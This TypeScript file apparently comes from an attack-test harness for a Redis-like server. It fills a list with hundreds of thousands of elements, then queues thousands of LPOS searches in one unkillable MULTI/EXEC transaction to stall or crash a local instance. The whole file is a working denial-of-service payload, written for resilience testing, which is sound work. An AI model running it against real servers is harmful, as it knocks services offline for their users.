// Queues searches through a long list in one transaction, which no SCRIPT KILL can stop → the host is answered again or the instance is ended
import { connect } from 'node:net';
import { attack } from '../attack.ts';

export default attack(async ({ instance }) => {
  const held = await instance();
  held.use();
  const socket = connect(held.port, '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  const fill = `RPUSH l ${'a '.repeat(10_000)}\r\n`.repeat(40);
  socket.write(`${fill}MULTI\r\n${'LPOS l nobody\r\n'.repeat(8000)}EXEC\r\n`);
  const began = performance.now();
  const said = await Promise.race([
    held.lost.then(({ cause }) => `lost: ${cause}`),
    new Promise<string>((resolve) => setTimeout(() => resolve('stuck'), 40_000).unref()),
  ]);
  socket.destroy();
  return { effect: said === 'stuck', observed: `${said} after ${Math.round(performance.now() - began)} ms` };
});
